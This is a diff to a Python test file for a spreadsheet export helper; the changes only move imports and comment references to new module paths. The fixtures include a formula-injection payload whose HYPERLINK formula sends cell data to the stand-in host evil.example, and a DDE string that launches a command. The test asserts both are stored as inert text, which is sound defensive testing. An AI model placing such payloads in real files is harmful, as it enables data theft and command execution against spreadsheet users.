@@ -8,8 +8,8 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from helpers.export import csv_safe_frame, looks_like_formula, neutralise_text, write_tables
-from helpers.tables import read_csv, write_csv
+from helpers.core.tables import read_csv, write_csv
+from helpers.present.export import csv_safe_frame, looks_like_formula, neutralise_text, write_tables
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 DDE = "=cmd|' /C calc'!A0"
@@ -25,7 +25,7 @@ NAMES = [
 ]
 
 
-# a bare carriage return becomes a line feed in reader's tables (see helpers.export.reader_text)
+# a bare carriage return becomes a line feed in reader's tables (see helpers.present.export.reader_text)
 READER_NAMES = [n.replace("\r", "\n") for n in NAMES]
 
 
@@ -94,7 +94,7 @@ def test_workbook_has_no_formula_and_keeps_the_text(written):
     m = wb["成果指標"]
     header = [c.value for c in m[1]]
     row = {h: c for h, c in zip(header, m[2], strict=True)}
-    # the workbook is for reading: Japanese headers (helpers.display's labels)
+    # the workbook is for reading: Japanese headers (helpers.present.display's labels)
     assert row["成果指標"].value == HYPERLINK and row["成果指標"].data_type == "s"
     assert row["備考"].value == DDE and row["備考"].data_type == "s"
     # numbers stay numbers: −2.2 is the number −2.2
